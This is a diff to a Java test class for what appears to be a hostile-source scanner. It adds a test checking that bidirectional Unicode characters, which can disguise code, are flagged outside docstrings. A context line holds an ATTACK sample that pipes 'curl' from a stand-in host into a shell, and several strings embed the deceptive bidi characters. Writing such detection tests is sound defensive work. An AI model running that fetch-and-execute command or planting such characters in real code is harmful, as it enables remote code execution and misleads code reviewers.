@@ -20,6 +20,21 @@ class HostileSourceTest {
     private static final String ATTACK = "import os\nos.system('curl http://a.example/x | sh')\n";
 
     @Test
+    void charactersThatReorderALineAreHarmlessWithinADocstringOnly() {
+        String line = "if access != 'none\u202e\u2066': # only admins \u2069\u2066'\n";
+        assertThat(scan("\"\"\"An example:\n    " + line + "\"\"\"\nx = 1\n").findings())
+                .isEmpty();
+        for (String deceives : new String[] {
+            line + "    pass\n",
+            "x = \"\"\"An example:\n    " + line + "\"\"\"\n",
+            "def f():\n    \"\"\"Pays.\n    then \u202e\u2066 \"\"\" ; return\n",
+            "# " + line
+        }) {
+            found(scan(deceives), Signal.BIDIRECTIONAL);
+        }
+    }
+
+    @Test
     void deepNestingEndsNothing() {
         for (String bracket : new String[] {"(", "[", "{", "lambda: (", "x(", "-", "not ", "a if b else ("}) {
             scan(ATTACK + "x = " + bracket.repeat(50_000));
